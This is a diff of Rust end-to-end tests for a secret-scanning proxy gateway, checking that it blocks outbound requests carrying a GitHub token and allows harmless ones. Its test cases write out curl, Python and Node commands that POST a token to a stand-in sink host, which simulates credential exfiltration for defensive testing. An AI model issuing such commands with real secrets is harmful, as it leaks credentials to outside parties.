@@ -8,7 +8,11 @@ async fn curl_git_python_and_node_work_through_the_gateway() {
     let token = github_pat();
     let url = stack.url("https://sink.example.net/");
     let cases: Vec<(&str, Vec<String>, Vec<String>)> = vec![
-        ("curl", vec!["curl".into(), "-sS".into(), "-f".into(), url.clone()], vec!["curl".into(), "-sS".into(), "-f".into(), "-d".into(), format!("t={token}"), url.clone()]),
+        (
+            "curl",
+            vec!["curl".into(), "-sS".into(), "-f".into(), url.clone()],
+            vec!["curl".into(), "-sS".into(), "-f".into(), "-d".into(), format!("t={token}"), url.clone()],
+        ),
         ("python", python(&url, "x=1"), python(&url, &format!("x={token}"))),
         ("node", node(&url, "x=1"), node(&url, &format!("x={token}"))),
     ];
@@ -35,4 +39,37 @@ fn node(url: &str, data: &str) -> Vec<String> {
     // Node before 24 reads no proxy variables by itself; undici's agent does.
     let code = "const {EnvHttpProxyAgent, fetch} = require(process.argv[1]); fetch(process.argv[2], {method: 'POST', body: process.argv[3], dispatcher: new EnvHttpProxyAgent()}).then(r => { console.log(r.status); process.exit(r.status === 200 ? 0 : 1) })";
     vec!["node".into(), "-e".into(), code.into(), portcullis_e2e::client_tool("node/node_modules/undici"), url.into(), data.into()]
+}
+
+#[tokio::test]
+async fn a_client_that_knows_no_proto_file_uses_the_scan_api() {
+    let stack = Stack::start(&[]).await;
+    let api = stack.gateway.scan_api().expect("an address");
+    let client = concat!(env!("CARGO_MANIFEST_DIR"), "/../scan-api/client.py");
+    let ask = async |body: String| {
+        let script =
+            format!("printf %s \"$1\" | {} {client} {api} https://sink.example.net/", portcullis_e2e::client_tool("python/bin/python"));
+        let output = stack
+            .run(&[
+                "env".into(),
+                "-u".into(),
+                "http_proxy".into(),
+                "-u".into(),
+                "https_proxy".into(),
+                "sh".into(),
+                "-c".into(),
+                script,
+                "sh".into(),
+                body,
+            ])
+            .await;
+        (output.status.code(), String::from_utf8_lossy(&output.stdout).into_owned(), String::from_utf8_lossy(&output.stderr).into_owned())
+    };
+    let token = github_pat();
+    let (code, said, errors) = ask(format!("key {token}")).await;
+    assert_eq!(code, Some(1), "said {said:?}, errors {errors:?}");
+    assert!(said.contains("\"reason\": \"secret_found\"") && said.contains("github-pat-classic") && !said.contains(&token), "{said}");
+    let (code, said, errors) = ask("nothing".into()).await;
+    assert_eq!(code, Some(0), "{said}{errors}");
+    assert!(said.contains("VERDICT_ALLOW"), "{said}");
 }
